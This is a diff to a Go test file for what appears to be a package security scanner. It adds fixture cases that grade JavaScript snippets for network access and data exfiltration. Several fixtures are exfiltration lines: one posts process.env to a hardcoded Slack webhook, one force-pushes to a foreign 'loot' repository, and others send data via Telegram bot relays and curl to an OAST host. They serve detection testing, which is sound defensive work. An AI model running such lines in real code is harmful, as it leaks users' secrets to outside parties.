@@ -11,6 +11,8 @@ func TestNetworkAccess(t *testing.T) {
 	rt.Check(t, NetworkAccess{}, []rt.Case{
 		{"https_request", map[string]string{"index.js": `require("https").request({hostname: "api.example.com"})`}, finding.SeverityLow},
 		{"no_network", map[string]string{"index.js": `require("path").join("a", "b")`}, finding.SeverityNone},
+		// mail sent over SMTP
+		{"nodemailer", map[string]string{"index.js": `const t = require("nodemailer").createTransport({host: "smtp.example.invalid", port: 465}); t.sendMail({to: "x@example.invalid", text: body})`}, finding.SeverityLow},
 		// git pushing to a foreign remote moves data
 		{"git_push_foreign", map[string]string{"index.js": `require("child_process").execFileSync("git", ["push", "-f", "https://git.example.invalid/drop/loot.git", "HEAD:refs/heads/x"])`}, finding.SeverityLow},
 		// git reading the project's own history talks to nobody
@@ -25,6 +27,11 @@ func TestExfilService(t *testing.T) {
 		{"discord_webhook", map[string]string{"index.js": `fetch("https://discord.com/api/webhooks/1/abc", {method:"POST"})`}, finding.SeverityHigh},
 		// a bot token in the path of a relayed request with run-time parts
 		{"telegram_bot_relay", map[string]string{"index.js": "const k = [\"tg.relay.example.invalid\", \"7001234567:AAFakeFakeFakeFakeFakeFakeFakeFake\"]; function send(t) { require(\"https\").get(`https://${k[0]}/bot${k[1]}/sendMessage?chat_id=1&text=${encodeURIComponent(t)}`) }"}, finding.SeverityHigh},
+		// clients of the chat services: the token or hook is their user's
+		{"telegram_framework", map[string]string{"index.js": "const API_ROOT = \"https://api.telegram.org\"; class Bot { constructor(token) { this.token = token } call(m, body) { return fetch(`${API_ROOT}/bot${this.token}/${m}`, { method: \"POST\", body }) } }"}, finding.SeverityLow},
+		{"slack_notifier", map[string]string{"index.js": `module.exports = (url, text) => { if (!url.startsWith("https://hooks.slack.com/services/")) throw new Error("not a Slack incoming webhook URL"); return fetch(url, { method: "POST", body: JSON.stringify({ text }) }) }`}, finding.SeverityLow},
+		{"slack_hook_hardcoded", map[string]string{"index.js": `fetch("https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/cccccccccccccccccccccccc", { method: "POST", body: JSON.stringify({ text: JSON.stringify(process.env) }) })`}, finding.SeverityHigh},
+		{"telegram_token_elsewhere", map[string]string{"index.js": "const T = \"7001234567:AAFakeFakeFakeFakeFakeFakeFakeFake\"; const API = \"https://api.telegram.org\"; fetch(`${API}/bot${T}/sendMessage`)"}, finding.SeverityHigh},
 		{"webhook_client", map[string]string{"index.js": `const { WebhookClient } = require("discord.js"); new WebhookClient("123", "tok")`}, finding.SeverityHigh},
 		{"bare_host_option", map[string]string{"index.js": `require("https").request({ hostname: "webhook.site", path: "/0c9f", method: "POST" })`}, finding.SeverityHigh},
 		{"interpolated_command", map[string]string{"index.js": "require(\"child_process\").exec(`curl -d \"${os.hostname()}\" https://abc123.oast.fun`)"}, finding.SeverityHigh},
